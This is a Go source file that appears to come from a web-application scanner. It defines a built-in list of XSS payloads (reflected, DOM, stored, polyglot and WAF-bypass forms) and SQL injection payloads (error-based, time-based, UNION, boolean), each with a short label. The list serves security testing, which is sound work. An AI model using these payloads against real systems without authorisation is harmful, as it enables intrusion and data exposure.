package payloads

import "github.com/waftester/injectscan/pkg/finding"

var builtin = []Payload{
	// Reflected XSS
	{finding.CategoryReflected, `<script>alert(1)</script>`, "Classic script tag"},
	{finding.CategoryReflected, `"><script>alert(1)</script>`, "Attribute breakout into script tag"},
	{finding.CategoryReflected, `<img src=x onerror=alert(1)>`, "Image error handler"},
	{finding.CategoryReflected, `<svg onload=alert(1)>`, "SVG load handler"},
	{finding.CategoryReflected, `'><body onload=alert(1)>`, "Single-quote breakout into body handler"},

	// DOM XSS
	{finding.CategoryDOM, `javascript:alert(document.domain)`, "javascript: URI sink"},
	{finding.CategoryDOM, `#"><img src=x onerror=alert(1)>`, "Fragment-driven sink"},

	// Stored XSS
	{finding.CategoryStored, `<iframe src="javascript:alert(1)"></iframe>`, "Persisted iframe"},
	{finding.CategoryStored, `<details open ontoggle=alert(1)>`, "Persisted details toggle"},

	// Polyglot XSS
	{finding.CategoryPolyglot, "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e", "Multi-context polyglot"},
	{finding.CategoryPolyglot, `'"--></style></script><svg onload=alert(1)>`, "Context-closing polyglot"},

	// WAF bypass XSS
	{finding.CategoryWAFBypass, `<ScRiPt>alert(1)</sCrIpT>`, "Mixed-case script tag"},
	{finding.CategoryWAFBypass, `<svg/onload=alert&#40;1&#41;>`, "Entity-encoded parentheses"},
	{finding.CategoryWAFBypass, "<img src=x oNeRrOr=alert`1`>", "Backtick call, mixed-case handler"},

	// Error-based SQLi
	{finding.CategoryErrorBased, `'`, "Lone single quote"},
	{finding.CategoryErrorBased, `"`, "Lone double quote"},
	{finding.CategoryErrorBased, `' OR '1'='1`, "Tautology"},
	{finding.CategoryErrorBased, `1' AND extractvalue(1,concat(0x7e,version()))-- -`, "MySQL XPATH error"},
	{finding.CategoryErrorBased, `1 AND 1=CONVERT(int,@@version)--`, "MSSQL conversion error"},

	// Time-based SQLi
	{finding.CategoryTimeBased, `1' AND SLEEP(5)-- -`, "MySQL SLEEP"},
	{finding.CategoryTimeBased, `1'; WAITFOR DELAY '0:0:5'--`, "MSSQL WAITFOR DELAY"},
	{finding.CategoryTimeBased, `1' || pg_sleep(5)--`, "PostgreSQL pg_sleep"},

	// Union SQLi
	{finding.CategoryUnion, `' UNION SELECT NULL-- -`, "Single-column UNION"},
	{finding.CategoryUnion, `' UNION SELECT NULL,NULL,NULL-- -`, "Three-column UNION"},

	// Boolean SQLi
	{finding.CategoryBoolean, `' AND 1=1-- -`, "True condition"},
	{finding.CategoryBoolean, `' AND 1=2-- -`, "False condition"},
}
